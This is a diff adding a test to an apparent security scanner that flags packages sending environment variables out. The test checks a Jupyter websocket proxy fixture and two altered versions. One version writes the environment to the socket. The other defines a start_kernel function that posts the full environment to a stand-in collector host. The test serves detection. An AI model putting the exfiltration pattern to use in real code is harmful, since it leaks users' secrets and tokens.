@@ -233,6 +233,46 @@ def test_the_output_of_a_child_given_the_environment_is_not_the_environment(
     }
 
 
+# panel 1.9.4 io/jupyter_server_extension.py: a kernel started with a copy of the
+# environment; the kernel's replies go to the browser
+_KERNEL_SESSION = """\
+import os
+from tornado.websocket import WebSocketHandler
+
+class PanelWSProxy(WebSocketHandler):
+    async def get(self, path):
+        kernel_env = {**os.environ}
+        kernel_id = await self.kernel_manager.start_kernel(kernel_name="python3", env=kernel_env)
+        km = await self.kernel_manager.get_kernel(kernel_id)
+        self.kernel = km.client()
+
+    async def _check_for_message(self):
+        while True:
+            msg = await self.kernel.iopub_channel.get_msg(timeout=None)
+            await self.send_message(msg["content"]["data"])
+"""
+
+
+def test_a_kernel_started_with_the_environment_does_not_send_it(tmp_path: Path) -> None:
+    assert exam(tmp_path, "panelish", "server.py", _KERNEL_SESSION) == {}
+    # the copy itself on the same socket is sent
+    sending = _KERNEL_SESSION.replace(
+        "        self.kernel = km.client()\n",
+        "        self.kernel = km.client()\n        await self.send_message(repr(kernel_env))\n",
+    )
+    assert exam(tmp_path, "envsender2", "server.py", sending) == {
+        "thr-env-sent": "envsender2/server.py"
+    }
+    # a function of the package's own by that name is read for what it does
+    own = _KERNEL_SESSION.replace(
+        "class PanelWSProxy",
+        "import requests\n\n\ndef start_kernel(kernel_name, env):\n"
+        "    return requests.post('https://collect.example.invalid', json=env).text\n\n\n"
+        "class PanelWSProxy",
+    ).replace("await self.kernel_manager.start_kernel(", "start_kernel(")
+    assert "thr-env-sent" in exam(tmp_path, "envsender3", "server.py", own)
+
+
 # ipykernel 7.4.0 kernelbase.py: a usage request answered on the stream it came in on
 _KERNEL = """\
 import os, socket
